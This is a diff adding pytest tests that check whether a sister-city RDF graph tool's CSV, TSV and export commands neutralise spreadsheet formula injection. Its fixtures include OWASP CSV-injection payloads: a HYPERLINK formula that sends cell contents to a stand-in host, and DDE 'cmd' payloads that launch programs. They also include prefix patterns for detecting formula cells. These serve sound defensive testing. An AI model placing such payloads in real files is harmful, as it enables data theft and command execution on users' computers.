@@ -139,3 +139,151 @@ def test_hostile_values_through_the_cli_return_nothing(store_path: str) -> None:
         assert result.exit_code == 0, result.output
         assert json.loads(result.stdout)["results"]["bindings"] == []
     assert URIRef("x")  # keep the import used
+
+
+# ------------------------------------------------------------------ spreadsheet-safe CSV
+
+#: Labels a spreadsheet would run as formulas (OWASP's CSV injection examples), and two that
+#: must stay as they are: a number and plain text.
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
+            "-2+3+cmd|' /C calc'!A0", "\tx=1", "'already quoted"]
+KEPT = ["-2", "Plain town"]
+LABEL_QUERY = "SELECT ?l WHERE { ?place a fg:City ; rdfs:label ?l FILTER(LANG(?l) = 'en') }"
+
+
+@pytest.fixture(scope="module")
+def hostile_store(tmp_path_factory: pytest.TempPathFactory) -> str:
+    """A store with one place per hostile label, each partnered with the next (so the
+    network export has them as nodes)."""
+    folder = tmp_path_factory.mktemp("formulas")
+    labels = FORMULAS + KEPT
+    lines = ["@prefix fg: <https://w3id.org/friendship-graph/ontology#> .",
+             "@prefix fgc: <https://w3id.org/friendship-graph/concept/> .",
+             "@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .",
+             "@prefix id: <https://w3id.org/friendship-graph/id/> ."]
+    for i, text in enumerate(labels):
+        literal = json.dumps(text)  # a valid Turtle string: quotes, tab escaped
+        lines.append(f"id:place\\/xx\\/formula-{i} a fg:City ; rdfs:label {literal}@en .")
+        lines.append(f"id:partnership\\/formula-{i} a fg:SisterCityPartnership ; "
+                     f"fg:partner id:place\\/xx\\/formula-{i}, "
+                     f"id:place\\/xx\\/formula-{(i + 1) % len(labels)} ; "
+                     "fg:status fgc:established .")
+    data = folder / "formulas.ttl"
+    data.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    path = folder / "store"
+    result = run(str(path), "load", str(data))
+    assert result.exit_code == 0, result.stderr
+    return str(path)
+
+
+def _csv_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
+
+
+def test_query_csv_neutralises_formula_cells(hostile_store: str) -> None:
+    result = run(hostile_store, "query", LABEL_QUERY, "--format", "csv")
+    assert result.exit_code == 0, result.stderr
+    cells = _csv_cells(result.stdout)
+    assert sorted(cells) == sorted(["'" + f for f in FORMULAS] + KEPT)
+    raw = run(hostile_store, "query", LABEL_QUERY, "--format", "csv", "--raw-csv")
+    assert sorted(_csv_cells(raw.stdout)) == sorted(FORMULAS + KEPT)
+
+
+def test_query_tsv_neutralises_formula_cells(hostile_store: str) -> None:
+    result = run(hostile_store, "query", LABEL_QUERY, "--format", "tsv")
+    assert result.exit_code == 0, result.stderr
+    cells = result.stdout.splitlines()[1:]
+    assert len(cells) == len(FORMULAS + KEPT)
+    for cell in cells:  # a spreadsheet drops the quotes: what is inside them must be safe
+        value = cell.removeprefix('"')
+        assert not value.startswith(("=", "+", "@", "\t", "\\t")), cell
+        assert not value.startswith("-") or value.startswith("-2\""), cell
+    assert '"\'=HYPERLINK(' in result.stdout and '"-2"@en' in result.stdout
+    raw = run(hostile_store, "query", LABEL_QUERY, "--format", "tsv", "--raw-csv")
+    assert '"=HYPERLINK(' in raw.stdout and "\"'=" not in raw.stdout
+    assert "\"''already quoted\"" in result.stdout and "\"'already quoted\"" in raw.stdout
+
+
+def test_export_csv_neutralises_formula_cells(hostile_store: str, tmp_path: Path) -> None:
+    import csv
+
+    from friendship_graph.export import read_graph
+
+    out = tmp_path / "net"
+    result = run(hostile_store, "export", "--format", "csv", "-o", str(out))
+    assert result.exit_code == 0, result.stderr
+    with open(tmp_path / "net.nodes.csv", encoding="utf-8", newline="") as stream:
+        labels = [row["label"] for row in csv.DictReader(stream)]
+    assert sorted(labels) == sorted(["'" + f for f in FORMULAS] + KEPT)
+    for name in ("net.nodes.csv", "net.edges.csv"):  # no cell of either file is a formula
+        with open(tmp_path / name, encoding="utf-8", newline="") as stream:
+            for row in csv.reader(stream):
+                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), row
+    # The export's own reader gives back exactly the labels.
+    back = read_graph(tmp_path / "net.nodes.csv")
+    assert sorted(d["label"] for _, d in back.nodes(data=True)) == sorted(FORMULAS + KEPT)
+    raw = tmp_path / "raw"
+    result = run(hostile_store, "export", "--format", "csv", "-o", str(raw), "--raw-csv")
+    assert result.exit_code == 0, result.stderr
+    with open(tmp_path / "raw.nodes.csv", encoding="utf-8", newline="") as stream:
+        assert sorted(row["label"] for row in csv.DictReader(stream)) == sorted(FORMULAS + KEPT)
+
+
+def _formula_cells(text: str) -> list[str]:
+    """Every cell of a CSV text that a spreadsheet would run as a formula."""
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text, newline=""))
+            for cell in row if cell.startswith(("=", "+", "@", "\t", "\r"))
+            or (cell.startswith("-") and cell != "-2")]
+
+
+@pytest.mark.parametrize(("args", "places"), [
+    (["analyze", "--rank", "degree", "--top", "0", "--format", "csv"], []),
+    (["path", "--format", "csv"], ["--", "Plain town", "-2+3+cmd|' /C calc'!A0"]),
+], ids=["analyze", "path"])
+def test_every_csv_report_neutralises_formula_cells(hostile_store: str, args: list[str],
+                                                    places: list[str]) -> None:
+    """Not only query and export: every command that writes CSV (the mechanism is one
+    function, results.spreadsheet_safe, and one option, --raw-csv)."""
+    result = run(hostile_store, *args, *places)
+    assert result.exit_code == 0, result.stderr
+    assert "'=HYPERLINK(" in result.stdout or "'-2+3+cmd" in result.stdout
+    assert _formula_cells(result.stdout) == []
+    raw = run(hostile_store, *args, "--raw-csv", *places)
+    assert raw.exit_code == 0, raw.stderr
+    assert _formula_cells(raw.stdout), raw.stdout
+
+
+def test_compare_csv_and_the_import_report_neutralise_formula_cells(
+        hostile_store: str, tmp_path: Path) -> None:
+    import shutil
+
+    store = str(shutil.copytree(hostile_store, tmp_path / "store"))
+    half = tmp_path / "half.ttl"
+    lines = (Path(hostile_store).parent / "formulas.ttl").read_text(encoding="utf-8").splitlines()
+    half.write_text("\n".join(lines[:8]) + "\n", encoding="utf-8")
+    assert run(store, "load", "--graph", "https://w3id.org/friendship-graph/graph/half",
+               str(half)).exit_code == 0
+    for fmt in ("csv", "tsv"):
+        result = run(store, "compare", "formulas", "half", "--format", fmt)
+        assert result.exit_code == 0, result.stderr
+        assert "'=HYPERLINK(" in result.stdout
+        cells = [c for line in result.stdout.splitlines() for c in line.split("\t")]
+        assert fmt == "csv" or not [c for c in cells if c.startswith(("=", "+", "@"))]
+        assert fmt == "tsv" or _formula_cells(result.stdout) == []
+    raw = run(store, "compare", "formulas", "half", "--format", "csv", "--raw-csv")
+    assert _formula_cells(raw.stdout)
+    # The import report quotes the rejected input: its cells are neutralised too.
+    pairs = tmp_path / "pairs.csv"
+    pairs.write_text('city1,country1,city2,country2\n=cmd|x,Narnia,Rome,Italy\n',
+                     encoding="utf-8")
+    report = tmp_path / "report.csv"
+    result = run(store, "import", "pairs", str(pairs), "--report", str(report))
+    assert result.exit_code == 0, result.stderr
+    text = report.read_text(encoding="utf-8")
+    assert "=cmd|x" in text and _formula_cells(text) == []
